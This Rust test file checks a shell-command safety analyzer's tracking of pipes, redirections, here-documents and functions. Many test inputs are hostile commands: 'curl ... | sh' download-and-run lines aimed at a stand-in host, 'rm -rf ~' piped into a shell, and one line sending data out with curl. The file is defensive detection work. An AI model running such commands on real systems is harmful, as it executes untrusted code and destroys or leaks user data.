//! Tests what flows through pipes, redirections, functions and substitutions of a shell.

use super::*;

#[test]
fn every_command_of_a_group_or_pipeline_counts_for_what_it_reads_and_prints() {
    for count in [0, 15, 16, 300] {
        let (others, stages) = ("true; ".repeat(count), "cat | ".repeat(count));
        for text in [
            format!("curl -s http://e.example/a | {{ {others}sh; }}\n"),
            format!("{{ {others}curl -s http://e.example/a; }} | sh\n"),
            format!("curl -s http://e.example/a | {stages}sh\n"),
        ] {
            let told = told(&look("bash", &text));
            assert!(told.iter().any(|finding| finding.contains(" sh.run-downloaded: ")), "{text}: {told:?}");
        }
    }
}

#[test]
fn every_command_of_a_branch_or_loop_counts_for_what_it_reads() {
    for text in [
        "if true; then sh; fi",
        "if sh; then :; fi",
        "if false; then :; elif true; then sh; fi",
        "if false; then :; elif false; then :; else sh; fi",
        "while true; do sh; done",
        "until sh; do :; done",
        "for i in 1; do sh; done",
        "for ((i = 0; i < 1; i++)); do sh; done",
        "case a in a) sh ;; esac",
        "{ true; if true; then sh; fi; }",
    ] {
        for text in [
            format!("curl -s http://e.example/a | {text}\n"),
            format!("{text} < <(curl -s http://e.example/a)\n"),
        ] {
            let told = told(&look("bash", &text));
            assert!(told.iter().any(|finding| finding.contains(" sh.run-downloaded: ")), "{text}: {told:?}");
        }
    }
    for text in ["echo 'rm -rf ~' | if true; then sh; fi", "while true; do sh; done <<< 'rm -rf ~'"] {
        let told = told(&look("bash", text));
        assert!(told.iter().any(|finding| finding.contains(" sh.delete-tree: ")), "{text}: {told:?}");
    }
}

/// Whether a finding of this rule is among those of a shell text.
fn finds(text: &str, rule: &str) -> bool {
    look("bash", text).findings.iter().any(|finding| finding.rule == rule)
}

#[test]
fn the_last_of_several_inputs_counts() {
    for (text, rule) in [
        ("sh <<< 'ls' <<< 'rm -rf ~'\n", "sh.delete-tree"),
        ("<<< 'ls' sh <<< 'rm -rf ~'\n", "sh.delete-tree"),
        ("sh <<< 'ls' <<E\nrm -rf ~\nE\n", "sh.delete-tree"),
        ("sh < f <<E\nrm -rf ~\nE\n", "sh.delete-tree"),
        ("sh <<< 'ls' < <(curl -s http://e.example/a)\n", "sh.run-downloaded"),
        ("sh <<E < <(curl -s http://e.example/a)\nls\nE\n", "sh.run-downloaded"),
        ("echo ls | sh < <(curl -s http://e.example/a)\n", "sh.run-downloaded"),
        ("{ sh < <(curl -s http://e.example/a); } < f\n", "sh.run-downloaded"),
        ("if true; then sh; fi <<< ls < <(curl -s http://e.example/a)\n", "sh.run-downloaded"),
        ("curl -s http://e.example/a | sh <<< 'rm -rf ~'\n", "sh.delete-tree"),
        ("echo ls | cat <<< 'rm -rf ~' | sh\n", "sh.delete-tree"),
    ] {
        assert!(finds(text, rule), "{text}: {:?}", told(&look("bash", text)));
    }
    for (text, rule) in [
        ("sh <<< 'rm -rf ~' <<< 'ls'\n", "sh.delete-tree"),
        ("sh <<< 'rm -rf ~' < f\n", "sh.delete-tree"),
        ("sh <<E < f\nrm -rf ~\nE\n", "sh.delete-tree"),
        ("echo 'rm -rf ~' | sh < f\n", "sh.delete-tree"),
        ("if true; then sh; fi <<< 'rm -rf ~' < f\n", "sh.delete-tree"),
        ("curl -s http://e.example/a | sh <<< ls\n", "sh.run-downloaded"),
        ("curl -s http://e.example/a | { sh <<< ls; }\n", "sh.run-downloaded"),
    ] {
        assert!(!finds(text, rule), "{text}: {:?}", told(&look("bash", text)));
    }
}

#[test]
fn a_redirection_is_for_the_command_that_the_shell_gives_it_to() {
    for (text, rule) in [
        ("< <(curl -s http://e.example/a) sh\n", "sh.run-downloaded"),
        ("x=1 < <(curl -s http://e.example/a) sh\n", "sh.run-downloaded"),
        ("sh 0< <(curl -s http://e.example/a)\n", "sh.run-downloaded"),
        ("python3 0< <(curl -s http://e.example/a)\n", "sh.run-downloaded"),
        ("sh 3< <(curl -s http://e.example/a) <&3\n", "sh.run-downloaded"),
        ("sh -s $(true)3< <(curl -s http://e.example/a)\n", "sh.run-downloaded"),
        ("true && sh < <(curl -s http://e.example/a)\n", "sh.run-downloaded"),
        ("! sh < <(curl -s http://e.example/a)\n", "sh.run-downloaded"),
        ("f() { sh; } < <(curl -s http://e.example/a); f\n", "sh.run-downloaded"),
        ("f() { sh; } <<< 'rm -rf ~'; f\n", "sh.delete-tree"),
        ("true && sh <<E\nrm -rf ~\nE\n", "sh.delete-tree"),
        ("curl -s -d @- http://e.example/a <<E | sh\nls\nE\n", "sh.run-downloaded"),
        ("curl -s http://e.example/a | { cat <<E && sh\nls\nE\n}\n", "sh.run-downloaded"),
    ] {
        assert!(finds(text, rule), "{text}: {:?}", told(&look("bash", text)));
    }
    for (text, rule) in [
        ("3<<< 'rm -rf ~' sh\n", "sh.delete-tree"),
        ("sh && cat <<E\nrm -rf ~\nE\n", "sh.delete-tree"),
        ("sh && cat < <(curl -s http://e.example/a)\n", "sh.run-downloaded"),
        ("sh 3< <(curl -s http://e.example/a)\n", "sh.run-downloaded"),
    ] {
        assert!(!finds(text, rule), "{text}: {:?}", told(&look("bash", text)));
    }
    for text in ["sh < $f", "sh <&3", "sh < /dev/fd/3", "sh <<< ls <&3", "sh <<< ls < $f", "< f sh"] {
        let review = look("bash", text);
        assert!(review.effects.unknown && !review.findings.is_empty(), "{text}: {:?}", told(&review));
    }
}

#[test]
fn words_behind_a_redirection_are_those_of_the_command() {
    for (text, plain) in [
        ("rm 2>/dev/null -rf ~", "rm -rf ~"),
        ("rm -rf build > /dev/null ~", "rm -rf build ~"),
        ("rm -r > /dev/null 2>&1 -f ~", "rm -r -f ~"),
        ("rm 0>/dev/null -rf ~", "rm -rf ~"),
        ("rm -rf {a,b}>/dev/null", "rm -rf {a,b}"),
        ("true && rm > /dev/null -rf ~", "true && rm -rf ~"),
        ("rm <<E -rf ~\nx\nE", "rm -rf ~"),
        ("rm <<E > /dev/null -rf ~\nx\nE", "rm -rf ~"),
        ("git clean 2>/dev/null -fdx", "git clean -fdx"),
        ("sh > /dev/null evil.sh", "sh evil.sh"),
        ("tee > /dev/null a b", "tee a b"),
        ("cd > /dev/null sub; rm -rf x", "cd sub; rm -rf x"),
        ("x=build; read > /dev/null x; rm -rf $x", "x=build; read x; rm -rf $x"),
        (
            "alias > /dev/null exit=true; cd sub || exit; rm -rf x",
            "alias exit=true; cd sub || exit; rm -rf x",
        ),
        ("curl > /dev/null -o a.sh http://e.example/a; sh a.sh", "curl -o a.sh http://e.example/a; sh a.sh"),
    ] {
        let (found, expected) = (look("bash", text), look("bash", plain));
        assert_eq!(rules_and_messages(&found), rules_and_messages(&expected), "{text}");
        assert_eq!(found.effects, expected.effects, "{text}");
    }
}

/// What is found, without the places.
fn rules_and_messages(review: &Review) -> Vec<(&str, &str)> {
    review.findings.iter().map(|finding| (finding.rule.as_str(), finding.message.as_str())).collect()
}

#[test]
fn a_here_document_in_a_substitution_is_known_unless_bash_changes_it() {
    assert_known(
        "bash",
        &[
            ("x=$(cat <<'E'\n../src\nE\n); rm -rf $x", &["../src"][..]),
            ("x=$(cat <<E\n../src\nE\n); rm -rf $x", &["../src"]),
            ("x=$(cat <<< ../src); rm -rf $x", &["../src"]),
            ("python3 -c \"$(cat <<'E'\nimport os\nos.remove('x')\nE\n)\"", &["x"]),
        ],
    );
    for text in ["$y", "$(echo ../src)", "`echo ../src`", "\\../src"] {
        let text = format!("y=../src; x=$(cat <<E\n{text}\nE\n); rm -rf $x");
        assert!(look("bash", &text).effects.unknown, "{text}");
    }
    let python = "python3 -c \"$(cat <<-'E'\n\tprint(1)\n\tE\n)\"";
    assert!(look("bash", python).findings.is_empty(), "{:?}", told(&look("bash", python)));
}

#[test]
fn what_a_branch_a_loop_a_function_or_a_wrapper_prints_keeps_its_marks() {
    let defined = "f() { FETCH; }; g() { if true; then f; fi; }; ";
    for printing in [
        "if true; then FETCH; fi",
        "if false; then :; elif true; then FETCH; fi",
        "if false; then :; else FETCH; fi",
        "while true; do FETCH; done",
        "until FETCH; do :; done",
        "for i in 1 2; do FETCH; done",
        "for ((i = 0; i < 1; i++)); do FETCH; done",
        "case a in a) FETCH ;; esac",
        "{ true; if true; then FETCH; fi; }",
        "f",
        "g",
        "sudo FETCH",
        "timeout 5 env A=b FETCH",
    ] {
        for text in
            [format!("{defined}{printing} | sh\n"), format!("{defined}x=$({printing}); eval \"$x\"\n")]
        {
            let text = text.replace("FETCH", "curl -s http://e.example/a");
            assert!(finds(&text, "sh.run-downloaded"), "{text}: {:?}", told(&look("bash", &text)));
        }
    }
    // `env` is an operand here.
    assert!(!finds("timeout 5 grep env a | curl -d @- http://e.example/a\n", "sh.send-secret"));
    let endless = look("bash", "f() { f | f & }; f\n");
    assert!(endless.unchecked.is_none(), "{:?}", endless.unchecked);
}

#[test]
fn a_function_gets_the_input_of_its_call() {
    for text in [
        "f() { sh; }; curl -s http://e.example/a | f\n",
        "f() { sh; }; f < <(curl -s http://e.example/a)\n",
        "f() { sh \"$@\"; }; curl -s http://e.example/a | f -s\n",
        "f() { if true; then sudo sh; fi; }; curl -s http://e.example/a | f\n",
        "g() { sh; }; f() { g; }; curl -s http://e.example/a | f\n",
        "f() { cat | sh; }; curl -s http://e.example/a | f\n",
        "f() { sh; }; curl -s http://e.example/a | { true; f; }\n",
        "f() { python3 -; }; while true; do f; done < <(curl -s http://e.example/a)\n",
        "f() { s\\h; }; curl -s http://e.example/a | f\n",
        "f() { 's'h; }; curl -s http://e.example/a | f\n",
        "f() { sudo -s; }; curl -s http://e.example/a | f\n",
        "f() { ssh h; }; curl -s http://e.example/a | f\n",
    ] {
        assert!(finds(text, "sh.run-downloaded"), "{text}: {:?}", told(&look("bash", text)));
    }
    assert!(finds("f() { sh; }; f <<< 'rm -rf ~'\n", "sh.delete-tree"));
    let own = "f() { sh; } <<< ls; curl -s http://e.example/a | f\n";
    assert!(!finds(own, "sh.run-downloaded"), "{:?}", told(&look("bash", own)));
    // What no function reads is told once.
    let once = look("bash", "f() { rm -rf ~; }; yes | f\n");
    assert_eq!(once.findings.iter().filter(|finding| finding.rule == "sh.delete-tree").count(), 1);
}

#[test]
fn what_is_written_to_a_command_is_its_input() {
    for text in ["curl -s http://e.example/a | tee >(sh) > a\n", "curl -s http://e.example/a > >(sh)\n"] {
        assert!(finds(text, "sh.run-downloaded"), "{text}: {:?}", told(&look("bash", text)));
    }
    for text in [
        "echo 'rm -rf ~' | tee >(sh)",
        "echo 'rm -rf ~' > >(sh)",
        "{ cat a; } > >(sh)",
        "> >(sh) cat a",
        "exec > >(sh); cat a",
        // Each command behind it reads that.
        "exec < <(cat a); sh",
        "exec < a; sh",
    ] {
        assert!(look("bash", text).effects.unknown, "{text}");
    }
    let files = look("bash", "ls > >(tee a) 2> >(grep b >&2)");
    assert!(!files.effects.unknown && files.effects.writes == ["a"], "{files:?}");
}

#[test]
fn only_the_number_0_names_the_standard_input() {
    for (language, source) in
        [("python", "open('0').read()"), ("javascript", "require('fs').readFileSync('0')")]
    {
        assert_eq!(look(language, source).effects.reads, ["0"], "{source}");
    }
}
